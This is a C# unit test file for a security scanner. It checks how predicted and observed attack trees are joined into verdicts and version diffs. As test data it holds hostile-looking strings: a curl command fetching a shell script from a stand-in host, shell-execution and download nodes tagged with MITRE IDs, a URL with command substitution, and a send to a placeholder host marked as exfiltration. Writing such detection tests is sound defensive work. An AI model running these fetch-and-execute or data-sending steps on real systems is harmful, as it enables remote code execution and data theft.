using Wellguard.Artifacts;
using Wellguard.AttackTrees;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.AttackTrees;

/// <summary>What a scan predicted and a run showed, as one tree and one verdict.</summary>
public sealed class JoinedTreeTests
{
    private static readonly DateOnly AnyDay = new(2026, 1, 1);

    private static Node Of(string id, NodeKind kind, string label, SignalState state, params string[] attack) => new(id, kind, label, kind == NodeKind.Endpoint ? Stage.Download : Stage.Execution) { State = state, Attack = attack };

    private static AttackTree Tree(SignalState state, params (NodeKind Kind, string Label, Verb Verb, string[] Attack)[] nodes) => new(
        [Of("n0", NodeKind.Artifact, "app", state), .. nodes.Select((node, index) => Of($"n{index + 1}", node.Kind, node.Label, state, node.Attack))],
        [.. nodes.Select((node, index) => new Edge(index == 0 ? "n0" : $"n{index}", $"n{index + 1}", node.Verb))]);

    private static Report Report(AttackTree tree, CompletenessState state, params Signal[] signals) =>
        new(new Artifact(ArtifactKind.Image, "app"), new Completeness(state, state == CompletenessState.Complete ? [] : [new("detonate", "app", "interrupted")]), new Verdict(Level.Clean, Decision.Allow, 0, "default", [], [])) { Tree = tree, Signals = signals };

    private static Signal Says(string node, Severity severity = Severity.Medium, SignalClass kind = SignalClass.Flow) =>
        new("content/downloads-and-runs-code", kind, "x", severity, Confidence.High, new Place("run.sh", 4)) { Node = node, Id = "s1" };

    private static readonly AttackTree Predicted = Tree(SignalState.Predicted, (NodeKind.Process, "Entrypoint: /run.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));

    [Fact]
    public void What_happened_as_predicted_is_confirmed_where_it_happened()
    {
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []), (NodeKind.Process, "curl -s http://a.example/x.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));
        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2")), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal([SignalState.Observed, SignalState.Confirmed, SignalState.Observed, SignalState.Confirmed], report.Tree.Nodes.Select(node => node.State));
        Assert.Equal((SignalState.Confirmed, "n3"), (report.Signals[0].State, report.Signals[0].Node));
    }

    [Theory]
    [InlineData(CompletenessState.Complete, Severity.Medium, SignalState.Refuted, SignalState.Refuted)]
    [InlineData(CompletenessState.Complete, Severity.High, SignalState.Refuted, SignalState.Predicted)]
    [InlineData(CompletenessState.Partial, Severity.Medium, SignalState.Predicted, SignalState.Predicted)]
    public void What_did_not_happen_is_refuted_by_a_whole_run_and_counts_when_it_is_grave(CompletenessState ran, Severity severity, SignalState node, SignalState signal)
    {
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []));
        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2", severity)), Report(observed, ran), Policy.Default, AnyDay);
        Assert.Equal(node, report.Tree.Nodes.Single(of => of.Label == "http://a.example/x.sh").State);
        Assert.Equal(signal, report.Signals[0].State);
        Assert.Contains(report.Tree.Edges, edge => edge.To == report.Signals[0].Node && report.Tree.Nodes.Single(of => of.Id == edge.From).Label == "/run.sh");
    }

    [Fact]
    public void What_was_asked_or_written_happened_though_the_observed_tree_does_not_tell_it()
    {
        var predicted = Tree(SignalState.Predicted, (NodeKind.Process, "/package/package.json", Verb.Runs, []), (NodeKind.Process, "node setup.js", Verb.Executes, []), (NodeKind.Endpoint, "https://a.example/tool", Verb.Downloads, ["T1105"]), (NodeKind.File, "/opt/tool", Verb.Writes, []), (NodeKind.Endpoint, "https://b.example/never", Verb.Downloads, ["T1105"]));
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/bin/sh test.sh", Verb.Runs, []), (NodeKind.Process, "node setup.js", Verb.Runs, []));
        var ran = Report(observed, CompletenessState.Complete) with { Network = [new("request", "https://a.example/tool")], Dropped = [new("00", "/opt/tool", 1)] };
        var report = Joined.Judge(Report(predicted, CompletenessState.Complete, Says("n3")), ran, Policy.Default, AnyDay);
        Assert.Equal(
            [("/package/package.json", SignalState.Confirmed), ("node setup.js", SignalState.Confirmed), ("https://a.example/tool", SignalState.Confirmed), ("/opt/tool", SignalState.Confirmed), ("https://b.example/never", SignalState.Refuted)],
            predicted.Nodes.Skip(1).Select(node => (node.Label, report.Tree.Nodes.Single(of => of.Label == node.Label).State)));
        Assert.Equal(SignalState.Confirmed, report.Signals[0].State);
    }

    [Fact]
    public void A_verb_is_no_file()
    {
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "npm install", Verb.Runs, []));
        var report = Joined.Judge(Report(Tree(SignalState.Predicted, (NodeKind.File, "/opt/x/install", Verb.Runs, [])), CompletenessState.Complete), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal(SignalState.Refuted, report.Tree.Nodes.Single(static node => node.Label == "/opt/x/install").State);
    }

    [Fact]
    public void What_led_to_something_that_happened_happened_too()
    {
        var predicted = Tree(SignalState.Predicted, (NodeKind.File, "/handler.js", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]), (NodeKind.Process, "/tmp/never", Verb.Executes, []));
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "node /var/runtime/start.mjs", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));
        var report = Joined.Judge(Report(predicted, CompletenessState.Complete), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal([("/handler.js", SignalState.Confirmed), ("/tmp/never", SignalState.Refuted)], report.Tree.Nodes.Where(static node => node.Label is "/handler.js" or "/tmp/never").Select(static node => (node.Label, node.State)));
    }

    [Theory]
    [InlineData(NodeKind.File)]
    [InlineData(NodeKind.Process)]
    public void A_file_is_also_called_from_a_folder_above(NodeKind kind)
    {
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/bin/sh /var/runtime/start.sh src/handler.js", Verb.Runs, []));
        var report = Joined.Judge(Report(Tree(SignalState.Predicted, (kind, "/app/src/handler.js", Verb.Runs, [])), CompletenessState.Complete), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal([SignalState.Observed, SignalState.Confirmed], report.Tree.Nodes.Select(static node => node.State));
    }

    [Theory]
    [InlineData("http://b.example/y.sh", false)]
    [InlineData("http://$(read HOST)/y.sh", true)]
    public void Another_download_is_not_the_predicted_one_unless_nobody_could_know_which(string predicted, bool confirmed)
    {
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));
        var report = Joined.Judge(Report(Tree(SignalState.Predicted, (NodeKind.Process, "Entrypoint: /run.sh", Verb.Runs, []), (NodeKind.Endpoint, predicted, Verb.Downloads, ["T1105"])), CompletenessState.Complete), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal(confirmed, report.Tree.Nodes.Single(node => node.Label == "http://a.example/x.sh").State == SignalState.Confirmed);
    }

    [Fact]
    public void A_shell_below_what_did_not_happen_did_not_happen_either()
    {
        var predicted = Tree(SignalState.Predicted, (NodeKind.Process, "Entrypoint: /run.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://late.example/x.sh", Verb.Downloads, ["T1105"]), (NodeKind.Process, "sh", Verb.Executes, ["T1059.004"]));
        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []), (NodeKind.Process, "sh", Verb.Runs, ["T1059.004"]));
        var report = Joined.Judge(Report(predicted, CompletenessState.Complete, Says("n3")), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal(SignalState.Refuted, report.Signals[0].State);
    }

    [Fact]
    public void A_secret_is_a_fact_that_no_run_refutes()
    {
        var predicted = Tree(SignalState.Predicted, (NodeKind.File, "/app/.env", Verb.Creates, []));
        var report = Joined.Judge(Report(predicted, CompletenessState.Complete, Says("n1", kind: SignalClass.Secret)), Report(Tree(SignalState.Observed), CompletenessState.Complete), Policy.Default, AnyDay);
        Assert.Equal((SignalState.Predicted, SignalState.Predicted), (report.Signals[0].State, report.Tree.Nodes[1].State));
    }

    [Fact]
    public void A_run_that_failed_leaves_the_prediction_and_the_report_is_partial()
    {
        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2")), Report(AttackTree.Empty, CompletenessState.Failed), Policy.Default, AnyDay);
        Assert.Equal(CompletenessState.Partial, report.Completeness.State);
        Assert.Equal(["n0", "n1", "n2"], report.Tree.Nodes.Select(node => node.Id));
        Assert.All(report.Tree.Nodes, node => Assert.Equal(SignalState.Predicted, node.State));
    }

    [Fact]
    public void What_is_new_against_the_version_before_is_told_and_numbers_are_no_difference()
    {
        var before = Report(Tree(SignalState.Observed, (NodeKind.Process, "node a.js 4711", Verb.Runs, [])), CompletenessState.Complete);
        var now = Report(Tree(SignalState.Observed, (NodeKind.Process, "node a.js 12", Verb.Runs, []), (NodeKind.Endpoint, "http://b.example/", Verb.Sends, ["T1041"])), CompletenessState.Complete);
        Assert.Equal([new Change("new", "download: http://b.example/ (T1041)")], Versions.Compare(now, before).Changes);
        Assert.Equal([new Change("gone", "download: http://b.example/ (T1041)")], Versions.Compare(before, now).Changes);
        Assert.Equal("unknown", Versions.Compare(now, before with { Completeness = new(CompletenessState.Partial, []) }).Changes[0].Kind);
    }
}
